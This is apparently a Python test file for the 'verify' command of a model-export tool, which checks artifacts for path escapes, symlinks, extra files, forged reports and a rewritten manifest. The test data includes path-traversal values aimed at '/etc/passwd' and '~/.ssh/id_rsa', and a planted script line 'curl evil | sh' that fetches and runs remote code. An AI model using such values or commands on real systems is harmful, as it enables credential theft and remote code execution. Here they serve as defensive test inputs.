"""`verify DIR`: every file of the artifact is listed and hashed (added, changed, missing files, links and special
files anywhere are differences); nothing an artifact names may lead outside it (manifest entries, paths a target
records). Artifacts are made by hand here: verify reads only files and hashes."""

from __future__ import annotations

import json
import os

from click.testing import CliRunner

from lorafast_export.cli import main
from lorafast_export.manifest import MANIFEST_SCHEMA
from lorafast_export.weights import sha256_file


def make_artifact(root, target="onnxruntime", decoder_file="model.onnx"):
    model = root / "model"
    model.mkdir(parents=True)
    (model / "model.onnx").write_bytes(b"graph")
    (model / "genai_config.json").write_text(json.dumps({"model": {"decoder": {"filename": decoder_file}}}))
    files = [{"path": f"model/{p.name}", "sha256": sha256_file(p)} for p in sorted(model.iterdir())]
    man = {"schema": MANIFEST_SCHEMA, "recipe": {"target": {"name": target}}, "files": files}
    (root / "manifest.json").write_text(json.dumps(man))
    return root


def verify(artifact):
    return CliRunner().invoke(main, ["verify", str(artifact)])


def test_a_clean_artifact_verifies(tmp_path):
    r = verify(make_artifact(tmp_path / "a"))
    assert r.exit_code == 0 and "verified 2 files" in r.output, r.output


def test_manifest_entries_must_stay_inside(tmp_path):
    for i, bad in enumerate(["/etc/passwd", "model/../../outside", "~/.ssh/id_rsa"]):
        art = make_artifact(tmp_path / f"a{i}")
        man = json.loads((art / "manifest.json").read_text())
        man["files"].append({"path": bad, "sha256": "0" * 64})
        (art / "manifest.json").write_text(json.dumps(man))
        r = verify(art)
        assert r.exit_code == 2 and "escapes the artifact directory" in r.output and repr(bad) in r.output, (
            r.output
        )


def test_a_listed_file_replaced_by_a_link_out_is_refused(tmp_path):
    art = make_artifact(tmp_path / "a")
    (tmp_path / "secret").write_bytes(b"graph")
    (art / "model" / "model.onnx").unlink()
    (art / "model" / "model.onnx").symlink_to(tmp_path / "secret")  # same bytes: the hash alone would pass
    r = verify(art)
    assert r.exit_code == 2 and "'model/model.onnx' leaves the directory through a symbolic link" in r.output


def test_paths_a_target_records_must_stay_inside(tmp_path):
    """onnxruntime-genai opens the file genai_config.json names: it may not point out of model/."""
    art = make_artifact(tmp_path / "a", decoder_file="../../../etc/passwd")
    r = verify(art)
    assert r.exit_code == 2, r.output
    assert "genai_config.json model.decoder.filename = '../../../etc/passwd' climbs out with '..'" in r.output
    # the same file under a target that records no path there is just a file
    assert verify(make_artifact(tmp_path / "b", target="hf", decoder_file="../x")).exit_code == 0


def test_links_in_model_are_differences(tmp_path):
    art = make_artifact(tmp_path / "a")
    (art / "model" / "more").symlink_to(tmp_path)  # unlisted link to a directory: not a file, still reported
    r = CliRunner().invoke(main, ["--json", "verify", str(art)])
    res = json.loads(r.stdout)
    assert r.exit_code == 1 and res["links"] == [f"model/more -> {tmp_path}"] and not res["ok"]


def test_files_added_anywhere_are_differences(tmp_path):
    """Issue 16 #8: a serve.sh at the root, or a file beside the reports, is not part of the artifact."""
    art = make_artifact(tmp_path / "a")
    (art / "serve.sh").write_text("curl evil | sh\n")
    (art / "reports").mkdir()
    (art / "reports" / "x.md").write_text("x")
    r = CliRunner().invoke(main, ["--json", "verify", str(art)])
    res = json.loads(r.stdout)
    assert r.exit_code == 1 and res["extra"] == ["reports/x.md", "serve.sh"] and not res["ok"], r.output


def test_a_forged_report_fails(tmp_path):
    art = make_artifact(tmp_path / "a")
    (art / "report.json").write_text('{"passed": true}')
    man = json.loads((art / "manifest.json").read_text())
    man["files"].append({"path": "report.json", "sha256": sha256_file(art / "report.json")})
    (art / "manifest.json").write_text(json.dumps(man))
    assert verify(art).exit_code == 0
    (art / "report.json").write_text('{"passed": true, "forged": 1}')
    r = CliRunner().invoke(main, ["--json", "verify", str(art)])
    assert r.exit_code == 1 and json.loads(r.stdout)["changed"] == ["report.json"]


def test_special_files_are_reported_and_never_read(tmp_path):
    """A FIFO in place of a listed file: hashing it would block forever; it is a difference instead."""
    art = make_artifact(tmp_path / "a")
    (art / "model" / "model.onnx").unlink()
    os.mkfifo(art / "model" / "model.onnx")
    r = CliRunner().invoke(main, ["--json", "verify", str(art)])
    res = json.loads(r.stdout)
    assert (
        r.exit_code == 1 and res["missing"] == ["model/model.onnx"] and res["extra"] == ["model/model.onnx"]
    )


def test_expect_checks_the_manifest_itself(tmp_path):
    """The manifest cannot hash itself: a rewritten manifest is caught only against a digest kept elsewhere."""
    art = make_artifact(tmp_path / "a")
    good = json.loads(CliRunner().invoke(main, ["--json", "verify", str(art)]).stdout)["manifest_sha256"]
    assert good == sha256_file(art / "manifest.json")
    assert CliRunner().invoke(main, ["verify", str(art), "--expect", good]).exit_code == 0
    man = json.loads((art / "manifest.json").read_text())
    (art / "model" / "model.onnx").write_bytes(b"evil")
    man["files"][1]["sha256"] = sha256_file(art / "model" / "model.onnx")  # the forger re-hashes
    (art / "manifest.json").write_text(json.dumps(man))
    assert verify(art).exit_code == 0  # consistent again: only the expected digest can tell
    r = CliRunner().invoke(main, ["verify", str(art), "--expect", good])
    assert r.exit_code == 1 and "manifest.json (sha256" in r.output, r.output


def test_a_manifest_that_is_not_ours_is_refused(tmp_path):
    art = make_artifact(tmp_path / "a")
    twice = {"schema": MANIFEST_SCHEMA, "files": [{"path": "model/a", "sha256": "x"}] * 2}
    cases = ['{"files": []}', "[1, 2]", "\x00\x01binary", '{"schema": "lorafast-export/manifest/v2"}']
    for text in [*cases, json.dumps(twice)]:
        (art / "manifest.json").write_text(text)
        r = verify(art)
        assert r.exit_code == 2 and "manifest.json" in r.output and "Traceback" not in r.output, r.output
